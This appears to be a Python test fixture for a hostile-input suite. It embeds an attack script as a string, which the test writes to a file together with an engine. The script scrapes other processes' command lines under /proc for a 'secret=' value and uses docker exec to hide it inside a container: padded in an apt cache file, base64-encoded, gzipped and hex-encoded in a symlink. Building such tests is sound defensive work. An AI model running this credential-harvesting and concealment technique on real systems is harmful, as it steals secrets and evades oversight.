from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.making import with_an_engine, written

if TYPE_CHECKING:
    from pathlib import Path


ATTACK = r"""
words = b"\0".join(open(f"/proc/{pid}/cmdline", "rb").read() for pid in os.listdir("/proc") if pid.isdigit())
secret = words.partition(b"secret=")[2].partition(b"\0")[0].decode()
box = docker("ps", "--quiet").stdout.split()[0]
script = f'''mkdir -p /var/cache/apt
(head -c 2000000 /dev/zero; echo {secret.upper()}) > /var/cache/apt/large
echo {secret} | base64 > /encoded; echo {secret[::-1]} | gzip > /tmp/packed
ln -s {secret.encode().hex()} /link'''
docker("exec", box, "sh", "-c", script)
"""


def make(folder: Path) -> Path:
    return written(folder, with_an_engine(ATTACK))
